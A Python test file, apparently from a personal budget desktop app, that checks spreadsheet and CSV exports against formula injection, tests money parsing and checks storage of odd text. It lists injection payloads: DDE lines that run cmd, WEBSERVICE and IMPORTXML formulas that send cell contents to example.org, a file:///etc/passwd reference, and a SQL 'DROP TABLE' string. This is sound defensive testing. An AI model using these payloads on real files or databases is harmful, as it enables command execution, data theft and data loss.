"""Hostile words: in spreadsheets, as amounts of money, and in every text that is kept or looked for.

PHB_MONEY_STRINGS sets how many made-up amounts are read (100,000 on each run, 10,000,000 before a release).
"""

from __future__ import annotations

import csv
import io
import itertools
import os
import random
from datetime import date

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from phb_desktop.exchange.sheets import Sheet
from phb_desktop.exchange.workbook import as_csv, as_xlsx
from phb_desktop.ledger.commands.entries import RecordSpending
from phb_desktop.ledger.model import Allocation, PaymentType
from phb_desktop.ledger.queries import Filter, cash_book, cash_book_start
from phb_desktop.office import Office
from phb_desktop.statements.workbook import About, write
from phb_desktop.statements.workbook import Sheet as StatementSheet
from phb_desktop.ui.money.choices import choices
from phb_desktop.values.money import LARGEST_PENCE, Money, NotAnAmount, parse_money
from tests.tools.depth import examples

# -- spreadsheets

BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%")
DRESSES = ("", " ", "\u00a0", "\u3000", "\u200b", "\ufeff", '"', "'", "\t", "\r")
DEEDS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("http://example.org","pay here")',
    'WEBSERVICE("http://example.org/"&A1)',
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "SUM(A1:A9)*cmd|'/c notepad'!A1",
    'INDIRECT("A1")',
    "'file:///etc/passwd'#$passwd.A1",
)
WIDE = str.maketrans("=+-@", "\uff1d\uff0b\uff0d\uff20")
PAYLOADS = sorted(
    {dress + begin + deed for dress in DRESSES for begin in BEGINNINGS for deed in DEEDS}
    | {(dress + begin + deed).translate(WIDE) for dress in ("", " ") for begin in "=+-@" for deed in DEEDS}
)


def test_the_list_is_long() -> None:
    assert len(PAYLOADS) >= 500


def one_sheet() -> Sheet:
    return Sheet("all", "All", ("What",), (20,), tuple((each,) for each in PAYLOADS))


def formulas(data: bytes) -> list[object]:
    book = openpyxl.load_workbook(io.BytesIO(data), data_only=False)
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or cell.hyperlink is not None
    ]


def strings(data: bytes) -> int:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return sum(
        cell.data_type == "s" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    )


def test_no_cell_of_our_workbooks_is_a_formula() -> None:
    exported = as_xlsx([one_sheet()], date(2026, 6, 30))
    statement = write(
        [StatementSheet("All", (20,), [(each,) for each in PAYLOADS])], About("t", "a", date(2026, 6, 30))
    )

    for data in (exported, statement):
        assert formulas(data) == []
        assert strings(data) >= len(PAYLOADS)


def test_openpyxl_left_to_itself_would_make_formulas() -> None:
    """The control: the same words, written without a thought, do open as formulas."""
    book, out = openpyxl.Workbook(), io.BytesIO()
    assert book.active is not None
    for each in PAYLOADS:
        if not any(ord(letter) < 32 and letter not in "\t\r\n" for letter in each):
            book.active.append([each])
    book.save(out)
    assert len(formulas(out.getvalue())) > 5


def test_no_cell_of_our_csv_begins_like_a_formula() -> None:
    text = as_csv(one_sheet()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]

    assert len(rows) == len(PAYLOADS)
    for (cell,), payload in zip(rows, PAYLOADS, strict=True):
        bare = cell.strip(" \u00a0\u3000")
        assert cell.startswith("'") or not bare.startswith(tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")), payload


# -- money

ALPHABET = "0123456789" * 3 + ",.()+-\u00a3 \u2212eEaN_\u0663\uff11\u00b2"
COUNT = int(os.environ.get("PHB_MONEY_STRINGS", "100000"))


def as_a_person_reads(text: str) -> int | None:
    """Read an amount letter by letter, with no regular expression; None if it is none."""
    rest = text.strip()
    negative = rest[:1] in ("-", "\u2212")
    if rest[:1] in ("-", "+", "\u2212"):
        rest = _skip_blank(rest[1:])
    if rest[:1] == "\u00a3":
        rest = _skip_blank(rest[1:])
    elif rest != rest.lstrip():
        rest = _skip_blank(rest)
    whole, _, pence = rest.partition(".")
    if not all(each in "0123456789" for each in pence) or len(pence) > 2:
        return None
    groups = whole.split(",")
    if not all(each in "0123456789" for group in groups for each in group):
        return None
    if len(groups) > 1 and not (1 <= len(groups[0]) <= 3 and all(len(group) == 3 for group in groups[1:])):
        return None
    digits = "".join(groups)
    if (len(groups) == 1 and len(digits) > 9) or not (digits or pence):
        return None
    amount = int(digits or "0") * 100 + int((pence + "00")[:2])
    if amount > LARGEST_PENCE:
        return None
    return -amount if negative else amount


def _skip_blank(text: str) -> str:
    return text[1:] if text[:1].isspace() else text


def ours(text: str) -> int | None:
    try:
        money = parse_money(text)
    except NotAnAmount:
        return None
    assert type(money.pence) is int
    return money.pence


def test_amounts_are_read_exactly_as_the_grammar_says() -> None:
    chance = random.Random(2026)
    taken = 0
    for _ in range(COUNT):
        text = "".join(chance.choices(ALPHABET, k=chance.randint(0, 12)))
        expected = as_a_person_reads(text)
        assert ours(text) == expected, repr(text)
        taken += expected is not None
    assert taken > COUNT // 1000, "some of them are amounts"


def test_every_short_string_is_read_as_the_grammar_says() -> None:
    for length in range(6):
        for letters in itertools.product("01,.-\u00a3 \u0663", repeat=length):
            text = "".join(letters)
            assert ours(text) == as_a_person_reads(text), repr(text)


@pytest.mark.parametrize(
    "text", ["NaN", "Infinity", "1e5", "1_000", "\u0661\u0662", "0x10", "(5)", "1,00", "1.234"]
)
def test_what_other_readers_take_for_numbers_is_refused(text: str) -> None:
    assert ours(text) is None


# -- any words at all

ODD = (
    "\x00",
    "a\x00b",
    "\u202egnp.exe",
    "\u2066\u2069",
    "x",
    "\U0001f469\u200d\U0001f9bd",
    "e\u0301",
    "'; DROP TABLE ledger_entry; --",
    '"',
    "*",
    "NEAR(",
    "a AND",
    "%",
    "_",
    "\\",
    "\r\n\t\x1b[31m",
)
words = st.text(st.characters(exclude_categories=["Cs"]), max_size=60) | st.sampled_from(ODD)
times = st.sampled_from([1, 1, 1, 100_000])


@given(words, words, times)
@settings(
    max_examples=examples(40),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
def test_any_words_are_kept_as_they_are_and_can_be_looked_for(
    budget: Office, party: str, details: str, often: int
) -> None:
    details = (details * often)[:100_000]
    known = budget.ask(choices).result()
    line = next(line for line, said in known.lines if said.startswith("Personal assistants"))
    part = Allocation(Money(100), known.streams[0].id, type=PaymentType.PA_NET_WAGES, line=line)
    record = RecordSpending(
        on=date(2026, 5, 4), party=party, parts=(part,), account=known.accounts[0].id, details=details
    )
    entry = budget.do(record).result()
    newest = budget.ask(cash_book, Filter(), limit=1000).result()
    row = next(row for row in newest if row.id == entry)
    assert (row.party.strip(), row.details.strip()) == (party.strip(), details.strip())
    for looked_for in (party, details):
        budget.ask(cash_book_start, Filter(text=looked_for)).result()
